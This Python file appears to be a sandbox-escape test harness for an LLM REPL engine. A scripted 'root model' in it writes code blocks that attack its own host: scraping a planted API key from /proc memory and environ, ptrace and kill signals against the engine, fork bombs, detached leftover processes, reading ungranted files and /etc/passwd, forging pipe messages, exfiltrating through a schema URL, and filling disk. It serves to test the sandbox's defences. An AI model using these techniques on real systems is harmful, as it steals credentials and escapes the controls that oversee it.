"""An engine whose root model attacks it from the ``subprocess`` environment's guest.

Run as a program by tests/environments/test_attacks.py, as root or as an unprivileged
user, so that an attack that works kills or freezes this process, not the test runner.
Prints one JSON object: ``{"skip": why}`` when this machine gives the guest no boundary
to test, else ``{"response": ..., "outputs": [REPL output of each block], "report": ...}``.

Environment: ``ATTACK_SITE`` (a site-packages folder to add first, for an interpreter
other than the venv's), ``OPENAI_API_KEY`` (the planted key, read here and kept in
memory as an ``api_key=`` would be), ``ATTACK_PLANTED`` (a file of the user's the guest
was not granted), ``ATTACK_LISTENER`` (a server a schema reference must never reach).
"""

from __future__ import annotations

import json
import os
import site
import sys

if os.environ.get("ATTACK_SITE"):
    site.addsitedir(os.environ["ATTACK_SITE"])

import trio  # noqa: E402

READ_PROC = r"""
import os, re, json
engine = int(context)
pattern = re.compile(rb'sk-test-planted-[0-9a-f]{16}')

def environ(pid):
    try:
        found = pattern.search(open(f'/proc/{pid}/environ', 'rb').read())
        return found.group().decode() if found else 'read, no key'
    except OSError as exc:
        return type(exc).__name__

def memory(pid):
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        with open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in maps:
                span, perms = line.split()[:2]
                low, high = (int(x, 16) for x in span.split('-'))
                if 'r' not in perms or high - low > 1 << 28:
                    continue
                try:
                    mem.seek(low)
                    found = pattern.search(mem.read(high - low))
                except OSError:
                    continue
                if found:
                    return found.group().decode()
        return 'read, no key'
    except OSError as exc:
        return type(exc).__name__

print(json.dumps({'environ': environ(engine), 'mem': memory(engine),
                  'ppid_environ': environ(os.getppid()) if os.getppid() > 1 else 'no parent'}))
"""

SIGNAL_ENGINE = r"""
import os, signal, json, ctypes, errno
engine = int(context)
out = {}
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, engine, 0, 0) == 0:  # PTRACE_ATTACH: the engine would stop here
    out['ptrace'] = 'attached'
else:
    out['ptrace'] = {errno.ESRCH: 'ProcessLookupError', errno.EPERM: 'PermissionError'}.get(
        ctypes.get_errno(), errno.errorcode.get(ctypes.get_errno(), 'error'))
for name in ('SIGSTOP', 'SIGKILL'):
    try:
        os.kill(engine, getattr(signal, name))
        out[name] = 'sent'
    except OSError as exc:
        out[name] = type(exc).__name__
print(json.dumps(out))
"""

SIGNAL_PARENT = r"""
import os, signal, json
parent = os.getppid()
out = {'ppid': parent}
for name in ('SIGSTOP', 'SIGKILL'):
    if parent <= 1:  # 0: the parent is outside this PID namespace; 1: init
        out[name] = 'no parent to signal'
        continue
    try:
        os.kill(parent, getattr(signal, name))
        out[name] = 'sent'
    except OSError as exc:
        out[name] = type(exc).__name__
print(json.dumps(out))
"""

SPAWN = r"""
import json, os, subprocess, time
mark = context
subprocess.Popen(['setsid', 'sh', '-c', f'(sleep 97.{mark} &) ; sleep 98.{mark}'])
forks = 0
try:
    while forks < 10_000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        forks += 1
except OSError as exc:
    print(json.dumps({'forks': forks, 'stopped_by': type(exc).__name__}))
"""

READ_FILES = r"""
import json
seen = {}
for path in PATHS:
    try:
        with open(path) as handle:
            seen[path] = 'read: ' + handle.read()[:20]
    except OSError as exc:
        seen[path] = type(exc).__name__
print(json.dumps(seen))
"""

SCHEMA_REF = r"""
import json
print(json.dumps({'ref': llm_query('q', schema={'$ref': URL + '/x?d=' + context})}))
"""

FORGE_PIPE = r"""
import json, os, stat
line = {'type': 'subcall', 'id': 0,
        'request': {'fn': 'llm_query', 'prompts': ['forged'], 'model': None, 'json_schema': None}}
big = {**line, 'request': {**line['request'], 'prompts': ['x' * (4 << 20)]}}
out = [fd for fd in map(int, os.listdir('/proc/self/fd'))
       if os.path.exists(f'/proc/self/fd/{fd}') and stat.S_ISFIFO(os.fstat(fd).st_mode)]
for fd in out:
    try:
        for i, forged in enumerate([line] * 2000 + [big] * 12):
            forged['id'] = 10_000_000 + i
            os.write(fd, (json.dumps(forged) + '\n').encode())
    except OSError:  # the read end of a pipe
        pass
print(json.dumps({'real': llm_query('real')}))
"""

PARK = r"""
import errno, json, os
parked = {}
for folder in ('/dev/shm', '/tmp', '/var/tmp', os.getcwd()):
    written = 0
    try:
        name = MARK + folder.replace('/', '-')  # three names, for one file system
        with open(os.path.join(folder, name), 'wb') as handle:
            while written < 600 * 2**20:
                handle.write(b'x' * 2**20)
                handle.flush()
                written += 2**20
    except OSError as exc:
        parked[folder] = [written >> 20, errno.errorcode.get(exc.errno, '?')]
    else:
        parked[folder] = [written >> 20, 'no error']
print(json.dumps(parked))
"""

# 40 forks on top of what the guest's uid already runs (the test counts it: without a user
# namespace of its own, the guests of tests running beside this one count too).
MAX_PROCESSES = int(os.environ.get("ATTACK_MAX_PROCESSES", "40"))
MEMORY_LIMIT_MB = 256


class InFlight:
    """A listener: the most ``llm_call`` nodes running at once."""

    def __init__(self) -> None:
        self.now = self.peak = 0

    def __call__(self, event: object) -> None:
        from rlm_graph.events import NodeFinished, NodeStarted

        if isinstance(event, NodeStarted) and event.kind == "llm_call":
            self.now += 1
            self.peak = max(self.peak, self.now)
        elif isinstance(event, NodeFinished) and event.kind == "llm_call":
            self.now -= 1


def attacks(engine_pid: int) -> list[str]:
    """The blocks the root model writes, in order."""
    planted = os.environ["ATTACK_PLANTED"]
    return [
        READ_PROC,
        SIGNAL_ENGINE,
        SIGNAL_PARENT,
        SPAWN,
        READ_FILES.replace("PATHS", repr([planted, "/etc/passwd"])),
        SCHEMA_REF.replace("URL", repr(os.environ["ATTACK_LISTENER"])),
        FORGE_PIPE,
        PARK.replace("MARK", repr(f"park-{engine_pid}")),
        "FINAL('the engine is still here')",
    ]


def leftovers(marks: list[str]) -> list[str]:
    """Command lines of live processes holding one of ``marks``."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                line = handle.read().replace(b"\0", b" ").decode(errors="replace")
            with open(f"/proc/{entry}/stat", "rb") as handle:
                state = handle.read().rsplit(b")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state != b"Z" and any(mark in line for mark in marks) and "leftovers" not in line:
            found.append(line.strip())
    return found


async def main() -> None:
    from rlm_graph import RLM
    from rlm_graph_subprocess.boundaries import GuestLimits
    from rlm_graph_subprocess.isolation import choose_isolation

    planted = os.environ["OPENAI_API_KEY"]
    api_key = planted.encode()  # noqa: F841 - in this process's memory, as an api_key= is
    isolation = await choose_isolation(True)
    if not isolation.pid_namespace and isolation.drops_to is None:
        why = "; ".join(isolation.refused) or isolation.describe()
        print(json.dumps({"skip": f"no PID namespace and no unprivileged user here: {why}"}))
        return
    blocks = attacks(os.getpid())
    outputs: list[str] = []
    in_flight = InFlight()

    def respond(request: object) -> str:
        messages = request.messages  # type: ignore[attr-defined]
        if not any(m.role == "system" for m in messages):
            return "sub"
        turn = sum(1 for m in messages if m.role == "assistant")
        if turn:
            outputs.append(messages[-1].content)
        return f"```repl\n{blocks[min(turn, len(blocks) - 1)]}\n```"

    rlm = RLM(
        "scripted",
        {"respond": respond},
        environment="subprocess",
        environment_kwargs={"max_processes": MAX_PROCESSES, "memory_limit_mb": MEMORY_LIMIT_MB},
        listeners=[in_flight],
    )
    result = await rlm.acompletion(str(os.getpid()))
    # Closing the environment ended the guest; give the kernel a moment to reap.
    # This engine's guests only (their command line names its folders, rlm-graph-PID-):
    # another engine's guest on the machine (a test running beside this one) is not ours.
    marks = [f"sleep 97.{os.getpid()}", f"sleep 98.{os.getpid()}", f"rlm-graph-{os.getpid()}-"]
    for _ in range(40):
        if not leftovers(marks):
            break
        await trio.sleep(0.05)
    print(
        json.dumps(
            {
                "response": result.response,
                "outputs": outputs,
                "report": isolation.describe(),
                "leftovers": leftovers(marks),
                "max_processes": MAX_PROCESSES,
                "landlock": isolation.landlock,
                "private_tmp": isolation.private_tmp,
                "tmp_mb": GuestLimits.from_kwargs({"memory_limit_mb": MEMORY_LIMIT_MB}).tmp_mb,
                "peak_calls": in_flight.peak,
                "parked": f"park-{os.getpid()}",
            }
        )
    )


if __name__ == "__main__":
    trio.run(main)
    sys.stdout.flush()
